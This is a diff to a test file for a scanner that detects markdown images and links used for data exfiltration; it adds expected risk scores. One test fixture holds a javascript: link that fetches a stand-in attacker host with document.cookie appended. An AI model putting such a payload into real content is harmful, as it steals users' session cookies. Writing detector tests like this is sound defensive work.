@@ -74,10 +74,12 @@ describe('exfil-url: markdown images', () => {
   it('treats data: URIs by option and javascript: URIs as script', () => {
     const img = '![p](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==)';
     expect(scan(img)[0]?.message).toContain('data: URI');
+    expect(scan(img)[0]?.score).toBe(0.6);
     expect(scan(img, { allow_data_uris: true })).toEqual([]);
     const [js] = scan("[click me](javascript:fetch('//evil.example/?'+document.cookie))");
     expect(js?.ruleId).toBe('exfil-url/link-with-data');
     expect(js?.message).toContain('javascript: URL');
+    expect(js?.score).toBe(0.95);
   });
 });
 
